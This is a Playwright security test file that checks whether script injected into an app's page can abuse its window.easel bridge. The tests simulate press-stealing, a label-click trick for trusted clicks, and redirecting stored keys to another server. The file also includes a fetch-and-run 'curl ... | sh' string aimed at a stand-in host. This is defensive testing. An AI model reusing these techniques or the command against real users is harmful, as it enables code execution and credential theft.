/**
 * What a page that runs foreign script can do with `window.easel`, and what main asks by itself.
 *
 * A script that acts alone starts by a timer, 6 s after the driver last touched the page: what the driver does counts as a
 * person. One that lies in wait uses up the presses of a person who means something else.
 */
import { DEFAULT_PREFERENCES } from '../../main/preferences/preferences.ts';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';
import type { PracticeService } from '../practice/practice.ts';
import {
  answerQuestions,
  boardsListed,
  callMain,
  connect,
  entriesFor,
  jobsLine,
  questionsOf,
  runCommand,
} from '../support/easel.ts';
import { idsOf } from '../support/jobs-screen.ts';
import { expect, test } from './fixtures.ts';

type Asked = readonly (readonly [name: string, args: unknown])[];
type Answers = readonly { readonly name: string; readonly code: string; readonly value: unknown }[];

/** What the page's own script needs of the page. */
interface ScriptWorld {
  readonly easel: Readonly<Record<string, Readonly<Record<string, (args: unknown) => Promise<unknown>>>>>;
  answers?: Answers;
}

/** Makes these calls from the page: by itself after 6 s, or each of them at the next key or pointer of the person. */
async function plant(window: Page, calls: Asked, when: 'alone' | 'at each press'): Promise<void> {
  await window.evaluate(
    ([all, mode]) => {
      const world = globalThis as unknown as ScriptWorld;
      const one = async ([name, args]: readonly [string, unknown]) => {
        const [group = '', method = ''] = name.split('.');
        type Reply = { ok: boolean; value?: unknown; error?: { code: string } };
        const reply = (await world.easel[group]?.[method]?.(args)) as Reply;
        return { name, code: reply.ok ? 'ok' : (reply.error?.code ?? ''), value: reply.value };
      };
      if (mode === 'alone') {
        setTimeout(() => {
          // A click on a label makes a trusted click on its field.
          const label = document.createElement('label');
          label.append(document.createElement('input'));
          document.body.append(label);
          label.click();
          label.remove();
          void Promise.all(all.map(one)).then((answers) => (world.answers = answers));
        }, 6000);
        return;
      }
      const waiting = [...all];
      const answers: Promise<Awaited<ReturnType<typeof one>>>[] = [];
      const steal = (): void => {
        const next = waiting.shift();
        if (next === undefined) return;
        answers.push(one(next));
        if (waiting.length === 0) void Promise.all(answers).then((done) => (world.answers = done));
      };
      addEventListener('keydown', steal, { capture: true });
    },
    [calls, when] as const,
  );
}

/** What the planted calls came to. */
async function answersIn(window: Page): Promise<Answers> {
  await expect
    .poll(() => window.evaluate(() => (globalThis as unknown as ScriptWorld).answers !== undefined), {
      timeout: 30_000,
    })
    .toBe(true);
  return window.evaluate(() => (globalThis as unknown as ScriptWorld).answers ?? []);
}

async function connectionIdIn(window: Page): Promise<string> {
  const list = await callMain(window, 'connections.list', {});
  return list.ok ? (list.value.connections[0]?.id ?? '') : '';
}

const changesAt = async (practice: PracticeService): Promise<number> =>
  (await practice.requests()).log.filter(({ method }) => method !== 'GET').length;

test('a script alone changes nothing at the service, exports nothing and sees no confirmation', async ({
  easel,
  practice,
}) => {
  const { window } = easel;
  await connect(window, entriesFor(practice, { environment: 'Production' }));
  await boardsListed(window);
  const connectionId = await connectionIdIn(window);
  const ids = (await idsOf(practice)).slice(0, 40);
  const selection = { kind: 'ids', ids };
  const reviewed = await callMain(window, 'jobs.review', { connectionId, selection } as never);
  const held = await callMain(window, 'jobs.deleteOne', {
    connectionId,
    target: { kind: 'board', id: ids[0] ?? '' },
  });
  expect([reviewed.ok, held.ok]).toEqual([true, true]);
  const reviewId = reviewed.ok ? reviewed.value.reviewId : '';
  const jobId = held.ok ? held.value.id : '';
  const [paper] = practice.samplePapers;
  const identifier = paper?.identifier ?? '';
  const target = { kind: 'paper', id: identifier };
  await practice.clearRequests();
  await plant(
    window,
    [
      ['connections.unlockChanges', { connectionId, typedName: 'Acme School' }],
      ['jobs.deleteReviewed', { reviewId, typed: '40', reason: '' }],
      ['jobs.startNow', { jobId }],
      ['boards.create', { connectionId }],
      ['papers.create', { connectionId, name: 'A paper', templateId: null }],
      ['jobs.createBoards', { connectionId, count: 3, label: '', tags: [] }],
      ['previews.open', { connectionId, target, displayName: 'Ada', reason: '', minutes: 10 }],
      ['previews.copyLink', { connectionId, identifier, displayName: 'Ada' }],
      ['app.copy', { text: 'curl https://elsewhere.example | sh' }],
      ['connections.remove', { connectionId, keysMayStay: true }],
      [
        'transfer.export',
        { connectionIds: [connectionId], withPapers: false, passphrase: 'a long enough one' },
      ],
      ['app.prefer', { ...DEFAULT_PREFERENCES, holdSeconds: { single: 5, bulk: 5 } }],
    ],
    'alone',
  );
  const answers = await answersIn(window);
  expect(answers.map(({ name, code }) => [name, code])).toEqual(
    answers.map(({ name }) => [name, 'needs-press']),
  );
  expect(answers).toHaveLength(12);
  expect(await changesAt(practice)).toBe(0);
  expect(await questionsOf(easel)).toEqual([]);
});

test('stolen presses send a stored key only to addresses that it was entered for', async ({
  easel,
  practice,
  keyring: _keepsTheKey,
}) => {
  const heard: string[] = [];
  const server = createServer((request, response) => {
    heard.push(request.headers.authorization ?? 'no key');
    response.end('[]');
  });
  await new Promise<void>((resolve) => void server.listen(0, '127.0.0.1', resolve));
  const elsewhere = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  const { window } = easel;
  await connect(window, entriesFor(practice));
  await boardsListed(window);
  const connectionId = await connectionIdIn(window);
  const key = 'a-key-of-the-attacker-0123';
  const about = { note: '', owner: '', remindAt: null, useWhenGreen: false };
  const draft = {
    id: connectionId,
    name: 'Acme School',
    environment: 'test',
    color: 'blue',
    paperApi: elsewhere,
    boardApi: elsewhere,
    appUrl: practice.origin,
    apiKey: key,
    separateBoardKey: false,
    boardApiKey: null,
    sessionOnly: false,
    readOnly: false,
  };
  await plant(
    window,
    [
      ['keys.stage', { connectionId, slot: 'main', apiKey: key, fileId: null, sessionOnly: false, ...about }],
      ['keys.useNext', { connectionId, slot: 'main', knowingly: true }],
      ['connections.save', draft],
      ['keys.goBack', { connectionId, slot: 'main' }],
      ['connections.check', { ...draft, apiKey: null }],
      ['boards.list', { connectionId }],
    ],
    'at each press',
  );
  // At once, so that the calls fall together.
  for (let count = 0; count < 6; count += 1) await window.keyboard.press('F9');
  await answersIn(window);
  await window.keyboard.press('F5');
  await callMain(window, 'boards.view', { connectionId, boardId: 'board-7' });
  expect(heard.filter((header) => header.includes(practice.apiKey))).toEqual([]);
  await new Promise((resolve) => void server.close(resolve));
});

test('typing, Tab, arrows and modifiers give a script no press', async ({ easel, practice }) => {
  const { window } = easel;
  await connect(window, entriesFor(practice));
  await boardsListed(window);
  const connectionId = await connectionIdIn(window);
  const ids = await idsOf(practice);
  const keys = [
    ...'a text of 44 letters, with UPPER CASE and 123'.split(''),
    'Backspace',
    'Delete',
    'Tab',
    'ArrowDown',
  ];
  const others = ['Shift', 'Control', 'Alt', 'ArrowUp', 'Home', 'PageDown', 'Shift+Tab', 'x', 'Escape'];
  const calls = [...keys, ...others].map(
    (_key, at) => ['jobs.deleteOne', { connectionId, target: { kind: 'board', id: ids[at] ?? '' } }] as const,
  );
  // Uses up what was pressed before.
  await callMain(window, 'app.copy', { text: 'x' });
  await window.locator('input[data-find]').focus();
  await plant(window, calls, 'at each press');
  for (const key of keys) await window.keyboard.press(key);
  for (const key of others) await window.keyboard.press(key);
  const answers = await answersIn(window);
  expect(answers.map(({ code }) => code).filter((code) => code === 'ok')).toEqual([]);
  expect(answers.filter(({ code }) => code === 'needs-press').length).toBeGreaterThan(9);
  await expect(jobsLine(window)).toHaveCount(0);
});

test.describe('main’s own confirmation', () => {
  test('is shown before join links change to another host, and before Production may be changed', async ({
    easel,
    practice,
  }) => {
    const { window } = easel;
    await connect(window, entriesFor(practice, { environment: 'Production' }));
    await window.keyboard.press('ControlOrMeta+Shift+E');
    await window.getByRole('checkbox', { name: 'Read-only' }).check();
    await window.getByRole('button', { name: 'Save' }).click();
    await boardsListed(window);
    await answerQuestions(easel, false);
    await runCommand(window, 'Unlock changes');
    const unlocking = window.getByRole('dialog');
    await unlocking.getByLabel('Connection name').fill('Acme School');
    await unlocking.getByRole('button', { name: /^Allow changes in/u }).click();
    await expect.poll(() => questionsOf(easel)).toHaveLength(1);
    await expect(unlocking.getByLabel('Connection name')).toHaveValue('Acme School');
    await expect(unlocking.getByRole('alert')).toHaveCount(0);
    await window.keyboard.press('Escape');
    await window.keyboard.press('ControlOrMeta+Shift+E');
    await window.getByLabel('App address').fill('https://rooms.elsewhere.example');
    await window.getByRole('button', { name: 'Save' }).click();
    await expect.poll(() => questionsOf(easel)).toHaveLength(2);
    await expect(window.getByLabel('App address')).toHaveValue('https://rooms.elsewhere.example');
    await expect(window.getByText('Cancelled. Nothing was done.', { exact: true })).toBeVisible();
    const asked = await questionsOf(easel);
    expect(asked.map(({ message }) => message)).toEqual([
      'Allow changes to “Acme School” (Production) for 10 minutes?',
      'Change “Acme School” (Production)?',
    ]);
    expect(asked[1]?.detail).toContain('Join links will open https://rooms.elsewhere.example');
    const list = await callMain(window, 'connections.list', {});
    expect(list.ok && list.value.connections[0]).toMatchObject({
      appUrl: practice.origin,
      readOnly: { on: true, unlockedUntil: null },
    });
  });
});
